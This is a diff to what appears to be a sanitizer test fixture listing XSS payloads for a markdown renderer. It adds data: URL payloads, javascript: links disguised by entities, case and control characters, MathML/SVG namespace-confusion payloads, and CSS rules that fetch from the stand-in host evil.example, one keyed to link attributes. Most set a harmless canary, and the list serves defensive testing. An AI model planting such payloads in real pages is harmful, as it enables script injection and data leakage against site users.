@@ -3,7 +3,8 @@
  * `window.__xss` (or to call `alert`, which the test page turns into the canary), to load something
  * from the network (evil.example, which the test page never reaches), or to navigate. Collected
  * from the classic filter-evasion lists (OWASP's cheat sheet), DOMPurify's mutation-XSS reports,
- * and markdown-specific forms (links, images, references, fence info strings, autolinks).
+ * and markdown-specific forms (links, images, references, fence info strings, autolinks). Every
+ * payload that carries script makes it set the canary (or call `alert`), so running is visible.
  */
 
 const scriptTags = [
@@ -18,7 +19,7 @@ const scriptTags = [
   '<script type="module">window.__xss=1</script>',
   '<script\x20type="text/javascript">window.__xss=1</script>',
   '<SCRIPT SRC=//evil.example/.j></SCRIPT>',
-  '<script>document.write("<img src=http://evil.example/w>")</script>',
+  '<script>window.__xss=1;document.write("<img src=http://evil.example/w>")</script>',
 ];
 
 const eventHandlers = [
@@ -56,13 +57,13 @@ const dangerousUrls = [
   '[click](java%0ascript:window.__xss=1)',
   '[click](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
   '[click](data:text/html,<script>window.__xss=1</script>)',
-  '[click](vbscript:msgbox(1))',
-  '[click](VBScript:msgbox(1))',
+  '[click](vbscript:alert(1))',
+  '[click](VBScript:alert(1))',
   '[click](file:///etc/passwd)',
   '[click](//evil.example/path)',
   '[click](/relative/path)',
   '<javascript:window.__xss=1>',
-  '<vbscript:msgbox(1)>',
+  '<vbscript:alert(1)>',
   '<a href="javascript:window.__xss=1">raw link</a>',
   '<a href="jav&#x09;ascript:window.__xss=1">tab link</a>',
   '<a href=" &#14; javascript:window.__xss=1">control char link</a>',
@@ -185,6 +186,66 @@ const domClobbering = [
   '<object id="__xss"></object>',
 ];
 
+/** `data:` URLs in every place one can stand: links, images, frames, scripts, styles, refreshes. */
+const dataUrls = [
+  '[click](data:text/html;charset=utf-8,%3Cscript%3Ewindow.__xss%3D1%3C%2Fscript%3E)',
+  '[click](DATA:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
+  '[click](data:application/javascript,window.__xss=1)',
+  '<data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==>',
+  '<a href="data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">raw data link</a>',
+  '<a href="  data:text/html,<script>window.__xss=1</script>">spaced data link</a>',
+  '<iframe src="data:text/html,<script>parent.__xss=1</script>"></iframe>',
+  '<object data="data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX194c3M9MTwvc2NyaXB0Pg=="></object>',
+  '<script src="data:text/javascript,window.__xss=1"></script>',
+  '<link rel=stylesheet href="data:text/css,body{background:url(http://evil.example/data-css.png)}">',
+  '![x](data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==)',
+  '![x](data:image/svg+xml,%3Csvg%20onload%3Dwindow.__xss%3D1%3E)',
+  '<img src="data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0id2luZG93Ll9feHNzPTEiLz4=">',
+  '<img src="data:image/png;base64,iVBORw0KGgo=" onload=window.__xss=1 onerror=window.__xss=1>',
+  '<meta http-equiv="refresh" content="0;url=data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==">',
+  '<form><button formaction="data:text/html,<script>window.__xss=1</script>">go</button></form>',
+];
+
+/** `javascript:` disguised by case, entities, white space, control characters and comments. */
+const disguisedJavascript = [
+  '[click](JAVASCRIPT:window.__xss=1)',
+  '[click](<javascript:window.__xss=1>)',
+  '[click](&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;&#x3A;window.__xss=1)',
+  '[click](javascript&#58;window.__xss=1)',
+  '[click](javascript://%0Awindow.__xss=1)',
+  '[click][js]\n\n[js]: <javascript:window.__xss=1>',
+  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;window.__xss=1">decimal entities</a>',
+  '<a href="javascript&#x3A;window.__xss=1">entity colon</a>',
+  '<a href="&#x20;javascript:window.__xss=1">leading space entity</a>',
+  '<a href="java\nscript:window.__xss=1">newline</a>',
+  '<a href="jav\tascript:window.__xss=1">tab</a>',
+  '<a href="\x01javascript:window.__xss=1">control character</a>',
+  '<a href="javascript://%0Awindow.__xss=1">comment and newline</a>',
+  '<a href="JaVaScRiPt:window.__xss=1">mixed case</a>',
+];
+
+/** More SVG, MathML and CSS: namespace confusion, animation of links, and styles that fetch. */
+const namespacesAndStyles = [
+  '<math><annotation-xml encoding="text/html"><img src=x onerror=window.__xss=1></annotation-xml></math>',
+  '<math><semantics><annotation-xml encoding="application/xhtml+xml"><script>window.__xss=1</script></annotation-xml></semantics></math>',
+  '<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style><a title="</style><img src=x onerror=window.__xss=1>">',
+  '<svg><animate attributeName=href values=javascript:window.__xss=1 /><a id=x><text x=20 y=20>click</text></a></svg>',
+  '<svg><image href="http://evil.example/svg-image.png"/></svg>',
+  '<svg><script href="data:,window.__xss=1"/></svg>',
+  '<svg><style>@import url(http://evil.example/svg.css)</style></svg>',
+  '<style>@font-face{font-family:x;src:url(http://evil.example/font.woff)}body{font-family:x}</style>',
+  '<style>a[href^="h"]{background:url(http://evil.example/leak)}</style>',
+  '<div style="cursor:url(http://evil.example/cursor.cur),auto">cursor</div>',
+  '<style>*{background-image:image-set("http://evil.example/set.png" 1x)}</style>',
+  '<div style="list-style-image:url(http://evil.example/bullet.png)"><li>item</li></div>',
+  '&lt;svg onload=window.__xss=1&gt;',
+  '&amp;lt;script&amp;gt;window.__xss=1&amp;lt;/script&amp;gt;',
+  '\uff1cscript\uff1ewindow.__xss=1\uff1c/script\uff1e',
+  '[x](https://ok.example/?q=<script>window.__xss=1</script>)',
+  '[![x](http://evil.example/nested.png)](http://evil.example/)',
+  '~~~ <img src=x onerror=window.__xss=1>\ncode\n~~~',
+];
+
 export const xssPayloads: readonly string[] = [
   ...scriptTags,
   ...eventHandlers,
@@ -196,4 +257,7 @@ export const xssPayloads: readonly string[] = [
   ...attributeBreakouts,
   ...framesAndNavigation,
   ...domClobbering,
+  ...dataUrls,
+  ...disguisedJavascript,
+  ...namespacesAndStyles,
 ];
